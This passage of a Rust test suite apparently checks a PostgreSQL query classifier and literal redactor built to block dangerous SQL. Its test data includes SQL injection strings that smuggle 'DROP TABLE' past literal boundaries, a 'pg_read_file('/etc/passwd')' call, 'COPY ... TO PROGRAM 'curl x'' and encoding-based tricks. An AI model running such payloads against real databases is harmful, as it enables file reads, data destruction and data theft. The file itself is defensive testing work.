    case("UPDATE pg_settings SET setting = 'replica' WHERE name = 'session_replication_role'", "update admin", "", "pg_settings", "", B),
    case("SELECT ts_rewrite('a'::tsquery, 'SELECT 1')", "select opaque", "", "", "ts_rewrite", B),
    case("SELECT \"coalesce\"(1)", "select opaque user_function", "", "", "coalesce", B),
    case("EXPLAIN SELECT f_user(1)", "explain opaque user_function", "", "", "f_user", B),
    case("INSERT INTO t SELECT * FROM t WHERE id > 0 ON CONFLICT (id) DO UPDATE SET name = 'x'", "insert update write", "t", "t", "", B),
    case("SELECT query FROM pg_stat_activity", "select admin", "pg_stat_activity", "", "", U),
    case("SELECT * FROM pg_catalog.pg_file_settings", "select admin", "pg_catalog.pg_file_settings", "", "", U),
];

fn set(names: &str) -> BTreeSet<String> {
    names.split_whitespace().map(str::to_string).collect()
}

fn only_statement(sql: &str) -> StatementClass {
    let c = classify(sql);
    assert_eq!(c.unclassified, None, "{sql}: unexpectedly unclassified");
    assert_eq!(c.statements.len(), 1, "{sql}: {c:?}");
    c.statements.into_iter().next().unwrap_or_default()
}

#[test]
fn the_table() {
    let mut failures = Vec::new();
    for case in CASES {
        let got = std::panic::catch_unwind(|| only_statement(case.sql));
        let got = match got {
            Ok(g) => g,
            Err(_) => {
                failures.push(format!("{}: unclassified or not one statement", case.sql));
                continue;
            }
        };
        let mut kinds = case.kinds.split_whitespace();
        let main = kinds.next().unwrap_or_default();
        let mut problems = Vec::new();
        if got.main_kind() != main {
            problems.push(format!("main kind {:?}", got.main_kind()));
        }
        for k in kinds {
            match k.strip_prefix('!') {
                Some(absent) if got.has_kind(absent) => problems.push(format!("has {absent}")),
                None if !got.has_kind(k) => problems.push(format!("lacks {k}")),
                _ => {}
            }
        }
        if got.reads != set(case.reads) {
            problems.push(format!("reads {:?}", got.reads));
        }
        if got.writes != set(case.writes) {
            problems.push(format!("writes {:?}", got.writes));
        }
        if got.functions != set(case.functions) {
            problems.push(format!("functions {:?}", got.functions));
        }
        if got.unbounded_read != case.unbounded {
            problems.push(format!("unbounded_read {}", got.unbounded_read));
        }
        if !problems.is_empty() {
            failures.push(format!(
                "{}: {} (kinds {:?})",
                case.sql,
                problems.join(", "),
                got.kinds
            ));
        }
    }
    assert!(
        failures.is_empty(),
        "{} of {} rows failed:\n{}",
        failures.len(),
        CASES.len(),
        failures.join("\n")
    );
}

#[test]
fn kinds_are_unique_and_vocabulary_is_closed() {
    const VOCABULARY: &[&str] = &[
        "select",
        "insert",
        "update",
        "delete",
        "merge",
        "copy",
        "create",
        "alter",
        "drop",
        "truncate",
        "grant",
        "revoke",
        "create_role",
        "alter_role",
        "drop_role",
        "set_role",
        "set",
        "show",
        "reset",
        "discard",
        "begin",
        "commit",
        "rollback",
        "savepoint",
        "release",
        "prepare",
        "execute",
        "deallocate",
        "call",
        "explain",
        "listen",
        "notify",
        "unlisten",
        "load",
        "vacuum",
        "analyze",
        "lock",
        "comment",
        "declare",
        "fetch",
        "close",
        "create_extension",
        "create_function",
        "other",
        "read",
        "write",
        "cte_write",
        "unbounded_write",
        "ddl",
        "destructive",
        "admin",
        "privilege_change",
        "role_reset",
        "copy_out",
        "copy_in",
        "file_access",
        "program_execution",
        "load_library",
        "opaque",
        "user_function",
        "define_code",
        "stored_code",
        "large_object",
        "channel_write",
        "rename_column",
        "explain_analyze",
        "row_lock",
        "maintenance",
    ];
    for case in CASES {
        let got = only_statement(case.sql);
        let unique: BTreeSet<&String> = got.kinds.iter().collect();
        assert_eq!(
            unique.len(),
            got.kinds.len(),
            "{}: {:?}",
            case.sql,
            got.kinds
        );
        for k in &got.kinds {
            assert!(
                VOCABULARY.contains(&k.as_str()),
                "{}: unknown kind {k}",
                case.sql
            );
        }
    }
}

#[test]
fn several_statements_in_one_message() {
    let c = classify("select 1; drop table t");
    assert_eq!(c.unclassified, None);
    let kinds: Vec<&str> = c.statements.iter().map(StatementClass::main_kind).collect();
    assert_eq!(kinds, ["select", "drop"]);
    assert_eq!(c.statements[1].writes, set("t"));

    let c = classify(
        "SELECT * FROM t WHERE a = 'x;y' ; ; COMMIT; DELETE FROM u WHERE id = 3 RETURNING id",
    );
    let kinds: Vec<&str> = c.statements.iter().map(StatementClass::main_kind).collect();
    assert_eq!(kinds, ["select", "commit", "delete"]);
}

#[test]
fn empty_messages_have_no_statements() {
    for sql in ["", "   ", ";", ";;", "-- only a comment", "/* c */ ;"] {
        assert_eq!(classify(sql), Classification::default(), "{sql:?}");
    }
}

#[test]
fn prepare_and_execute() {
    let c = classify("PREPARE p AS DELETE FROM t; EXECUTE p");
    assert_eq!(c.unclassified, None);
    let (prepare, execute) = (&c.statements[0], &c.statements[1]);
    assert_eq!(prepare.main_kind(), "prepare");
    assert!(prepare.writes.is_empty(), "preparing runs nothing");
    let (name, inner) = prepare.prepares.as_ref().expect("prepares");
    assert_eq!(name, "p");
    assert_eq!(inner.main_kind(), "delete");
    assert_eq!(inner.writes, set("t"));
    assert!(inner.has_kind("destructive"));
    assert_eq!(execute.main_kind(), "execute");
    assert_eq!(execute.executes.as_deref(), Some("p"));

    // Names fold like identifiers: "P" and p are different statements.
    let c = classify("PREPARE \"P\"(int) AS SELECT * FROM patients WHERE id = $1; EXECUTE P(1)");
    assert_eq!(
        c.statements[0].prepares.as_ref().map(|p| p.0.as_str()),
        Some("P")
    );
    assert_eq!(c.statements[1].executes.as_deref(), Some("p"));

    // Functions in EXECUTE's arguments still count.
    let s = only_statement("EXECUTE p(pg_read_file('/etc/passwd'))");
    assert!(s.has_kind("file_access"));

    // EXPLAIN ANALYZE EXECUTE runs the prepared statement.
    let s = only_statement("EXPLAIN ANALYZE EXECUTE p");
    assert_eq!(s.executes.as_deref(), Some("p"));

    // A PREPARE of something unclassifiable makes the message unclassified.
    assert!(classify("PREPARE p AS SELECT * FROM ONLY patients")
        .unclassified
        .is_some());
}

/// Statements that must never pass as classified, with the reason's gist.
#[test]
fn fail_closed() {
    for sql in [
        // Not parsed by sqlparser 0.63 (and dangerous).
        "DO $$ BEGIN EXECUTE 'DROP TABLE t'; END $$",
        "ALTER SYSTEM SET work_mem = '1GB'",
        "GRANT pg_read_server_files TO bob",
        "CLUSTER t",
        "SELECT 1; DO $$ x $$",
        "TABLE patients",
        "SET role TO admin",
        // PostgreSQL reads ONLY as a keyword; sqlparser as a table name.
        "SELECT * FROM ONLY patients",
        "SELECT * FROM ONLY (patients)",
        "SELECT * FROM t, LATERAL ONLY (patients)",
        "DELETE FROM ONLY patients WHERE id = 1",
        "SELECT * FROM user",
        // Lexical differentials and session-dependent literal boundaries.
        "PREPARE p(int) AS SELECT $1x$ ; DROP TABLE t; --$1x$",
        "SELECT 'x\\'' ; DROP TABLE t; --'",
        "SELECT X'\\' ; DROP TABLE t; --'",
        "SELECT E'a'\n'\\'' ; DROP TABLE t; --'",
        "SELECT * FROM U&\"patients\"",
        "SELECT 1\0; DROP TABLE t",
        // The gateway decodes text as UTF-8; in SJIS a 0x5C byte can be half
        // of a character, so literals would end elsewhere for the server.
        "SET client_encoding = 'SJIS'",
        "SET client_encoding TO big5",
        "SET NAMES 'GBK'",
        "SELECT set_config('client_encoding', 'SJIS', false)",
        // Computed or unmodelled.
        "SELECT set_config(name, 'x', false) FROM t",
        "USE mydb",
        "SHOW TABLES",
        "PRAGMA x",
        "BEGIN SELECT 1; END",
        // Code definitions sqlparser does not parse: refused as unclassified.
        "CREATE CAST (text AS int) WITH FUNCTION f(text) AS IMPLICIT",
        "CREATE AGGREGATE agg(text) (SFUNC = f, STYPE = text)",
        "CREATE RULE r AS ON INSERT TO t DO ALSO DELETE FROM t",
        "CREATE EVENT TRIGGER e ON ddl_command_start EXECUTE FUNCTION f()",
        "CREATE LANGUAGE plperlu",
        "CREATE TRANSFORM FOR int LANGUAGE plpgsql (FROM SQL WITH FUNCTION f(internal), TO SQL WITH FUNCTION g(internal))",
        "CREATE CONVERSION c FOR 'UTF8' TO 'LATIN1' FROM f",
        "ALTER PROCEDURE p() RENAME TO q",
        "ALTER ROUTINE f() RENAME TO g",
        "ALTER TRIGGER tr ON t RENAME TO tr2",
        "ALTER EVENT TRIGGER e ENABLE",
        // set_config in FROM; attribute notation on a computed value.
        "SELECT * FROM set_config('role', 'admin', false)",
        "SELECT * FROM pg_catalog.set_config('session_replication_role', 'replica', false) AS x",
        "SELECT ('/etc/hostname'::text).pg_read_file",
        // Not SQL at all.
        "'unterminated",
        "/* unterminated",
        "$$ unterminated",
    ] {
        let c = classify(sql);
        let why = c
            .unclassified
            .unwrap_or_else(|| panic!("{sql:?} was classified: {:?}", c.statements));
        assert!(!why.is_empty());
        // The reason never quotes the statement.
        for secret in ["patients", "passwd", "admin", "mydb", "work_mem", "1GB"] {
            if sql.contains(secret) {
                assert!(
                    !why.contains(secret),
                    "{sql:?}: reason {why:?} leaks {secret}"
                );
            }
        }
    }
}

#[test]
fn classifier_work_is_bounded() {
    use vigil_sql::classify::{MAX_CLASSIFIED_BYTES, MAX_CLASSIFIED_TOKENS};
    // Past the byte budget: not tokenized or parsed at all.
    let long = format!("SELECT {}1", "1,".repeat(MAX_CLASSIFIED_BYTES / 2));
    let c = classify(&long);
    assert!(c.statements.is_empty());
    assert!(c.unclassified.unwrap().contains("longer than"));
    // Within the bytes but past the token budget: tokenized, not parsed.
    let many = format!("SELECT {}1", "1,".repeat(MAX_CLASSIFIED_TOKENS / 2 + 1));
    assert!(many.len() < MAX_CLASSIFIED_BYTES);
    let c = classify(&many);
    assert!(c.unclassified.unwrap().contains("tokens"));
    // Just inside both: classified as usual.
    let fits = format!("SELECT {}1", "1,".repeat(MAX_CLASSIFIED_TOKENS / 2 - 10));
    let c = classify(&fits);
    assert_eq!(c.unclassified, None);
    // Redaction applies the same byte budget and shows no literal.
    let secret = format!("SELECT '123-45-6789' {}", " ".repeat(MAX_CLASSIFIED_BYTES));
    let shown = redact_literals(&secret);
    assert!(
        !shown.contains("123-45-6789") && shown.contains("not shown"),
        "{shown}"
    );
}

#[test]
fn deep_nesting_is_refused_not_crashed() {
    let parens = format!("SELECT {}1{}", "(".repeat(10_000), ")".repeat(10_000));
    assert!(classify(&parens).unclassified.is_some());
    let chain = format!("SELECT 1{}", "+1".repeat(100_000));
    assert!(classify(&chain).unclassified.is_some());
    let unions = format!("SELECT 1{}", " UNION SELECT 1".repeat(50_000));
    assert!(classify(&unions).unclassified.is_some());
    let casts = format!("SELECT a{}", "::int".repeat(50_000));
    assert!(classify(&casts).unclassified.is_some());
    // Large but flat statements are fine (within the classifier's budget).
    let values: Vec<String> = (0..5_000).map(|i| format!("({i}, 'x', -{i})")).collect();
    let insert = format!("INSERT INTO t VALUES {}", values.join(", "));
    assert_eq!(classify(&insert).unclassified, None);
    let ors: Vec<String> = (0..1_000).map(|i| format!("id = {i}")).collect();
    let select = format!("SELECT * FROM t WHERE {}", ors.join(" OR "));
    assert_eq!(classify(&select).unclassified, None);
}

#[test]
fn redaction() {
    assert_eq!(
        redact_literals("SELECT * FROM patients WHERE ssn = '123-45-6789' AND age > 40"),
        "SELECT * FROM patients WHERE ssn = ? AND age > ?"
    );
    assert_eq!(
        redact_literals("SELECT E'a\\'b', $$x$$, $t$y$t$, x'ff', b'01', N'n', U&'u', 1.5e3, -2 FROM \"T\" WHERE a = $1"),
        "SELECT ?, ?, ?, ?, ?, ?, ?, ?, -? FROM \"T\" WHERE a = $1"
    );
    assert_eq!(
        redact_literals("SELECT 1 /* John Smith */ -- 123-45-6789\nFROM t"),
        "SELECT ?    \nFROM t"
    );
    // Unparseable text is still redacted.
    assert_eq!(
        redact_literals("DO $$ BEGIN PERFORM 'secret'; END $$"),
        "DO ?"
    );
    // Untokenizable or ambiguous text is not shown at all.
    let hidden = redact_literals("SELECT 'John Smith");
    assert!(
        hidden.starts_with("<statement not shown: 18 bytes"),
        "{hidden}"
    );
    let hidden = redact_literals("SELECT 'a\\' John Smith \\'b'");
    assert!(!hidden.contains("John"), "{hidden}");
    // With standard_conforming_strings off, PostgreSQL reads one literal
    // where sqlparser reads a literal and a quoted identifier.
    let hidden = redact_literals("SELECT 'a\\'\"John Smith' --\"\n");
    assert!(!hidden.contains("John"), "{hidden}");
}

/// SQL-ish fragments for the mutation proptest.
const SEEDS: &[&str] = &[
    "SELECT * FROM patients WHERE ssn = '123-45-6789'",
    "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d",
    "COPY (SELECT * FROM patients) TO PROGRAM 'curl x'",
    "PREPARE p AS DELETE FROM t; EXECUTE p",
    "SELECT E'a\\'b', $$x$$, $t$y$t$, x'ff' /* c /* n */ */ -- d",
    "EXPLAIN (ANALYZE) UPDATE t SET a = (SELECT b FROM u) WHERE id = 1",
    "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS $$ SELECT 1 $$",
    "SELECT a->>'x', b::int[], c[1][2] FROM \"T\" JOIN u USING (id)",
];

fn literal_content() -> impl Strategy<Value = String> {
    // Distinctive, so it cannot occur elsewhere in the statement.
    "[a-z]{3,8}".prop_map(|s| format!("zq{s}qz"))
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(512))]

    #[test]
    fn never_panics_on_arbitrary_text(s in "\\PC{0,200}") {
        let _ = classify(&s);
        let _ = redact_literals(&s);
    }

    #[test]
    fn never_panics_on_sql_like_text(s in "[ -~\\n\\t]{0,200}") {
        let _ = classify(&s);
        let _ = redact_literals(&s);
    }

    #[test]
    fn never_panics_on_mutated_sql(
        seed in 0..SEEDS.len(),
        cut in 0usize..200,
        insert in "[ -~]{0,6}",
        at in 0usize..200,
    ) {
        let base = SEEDS[seed];
        let mut chars: Vec<char> = base.chars().collect();
        let cut = cut.min(chars.len());
        chars.truncate(chars.len() - cut / 4);
        let at = at.min(chars.len());
        let mutated: String = chars[..at]
            .iter()
            .copied()
            .chain(insert.chars())
            .chain(chars[at..].iter().copied())
            .collect();
        let _ = classify(&mutated);
        let _ = redact_literals(&mutated);
    }

    #[test]
    fn redaction_removes_generated_literals(
        content in literal_content(),
        form in 0usize..7,
        prefix in "(SELECT|INSERT INTO t VALUES \\(|UPDATE t SET a =|DO) ",
    ) {
        let literal = match form {
            0 => format!("'{content}'"),
            1 => format!("E'{content}\\''"),
            2 => format!("$${content}$$"),
            3 => format!("$tag${content}$tag$"),
            4 => format!("N'{content}'"),
            5 => format!("U&'{content}'"),
            _ => format!("'{content}''{content}'"),
        };
        let sql = format!("{prefix}{literal} /* {content} */ -- {content}\n");
        let out = redact_literals(&sql);
        prop_assert!(!out.contains(&content), "{sql:?} -> {out:?}");
    }

    #[test]
    fn numbers_are_redacted(n in 0u64..u64::MAX) {
        let out = redact_literals(&format!("SELECT * FROM t WHERE a = {n}"));
        prop_assert_eq!(out, "SELECT * FROM t WHERE a = ?");
    }
}
